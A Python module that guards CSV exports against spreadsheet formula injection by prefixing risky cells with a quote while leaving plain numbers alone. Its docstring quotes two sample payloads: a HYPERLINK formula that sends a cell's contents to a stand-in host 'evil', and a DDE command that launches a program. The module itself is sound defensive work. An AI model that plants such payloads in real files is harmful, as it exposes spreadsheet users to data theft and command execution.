"""Spreadsheet formula injection: a CRM cell such as ``=HYPERLINK("http://evil/?"&A1)`` or
``+cmd|' /C calc'!A0`` written back into a CSV runs as a formula when the file is opened in Excel,
LibreOffice or Google Sheets. As OWASP recommends, a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading single quote, so the spreadsheet shows it as text
(the CSV writer quotes the cell and doubles its quotes).

A number is not a formula: a cell that is wholly a number (``-5``, ``+1.5``, ``-1,200``,
``-3.2e4``, ``-12%``) is kept as it is, so negative figures stay numbers. "Wholly" is the test:
``-5+cmd|...`` or ``-2+3`` is not a number and is neutralised.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FIRST = "^[=+\\-@\t\r]"
NUMBER = r"^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?$"
_NUMBER = re.compile(NUMBER)


def neutralise_cell(text: str) -> str:
    """One cell, neutralised when a spreadsheet would read it as a formula."""
    if text and text.startswith(FORMULA_STARTS) and not (_NUMBER.match(text) and any(c.isdigit() for c in text)):
        return "'" + text
    return text


def neutralise_formulas(frame: Any) -> Any:
    """Every text column of a polars DataFrame or LazyFrame, cells neutralised (vectorised)."""
    import polars as pl

    schema = frame.collect_schema()
    text_columns = [name for name, dtype in schema.items() if dtype == pl.Utf8]
    if not text_columns:
        return frame
    expressions = []
    for name in text_columns:
        column = pl.col(name)
        risky = column.str.contains(_FIRST) & ~(column.str.contains(NUMBER) & column.str.contains(r"\d"))
        expressions.append(pl.when(risky).then(pl.lit("'") + column).otherwise(column).alias(name))
    return frame.with_columns(expressions)
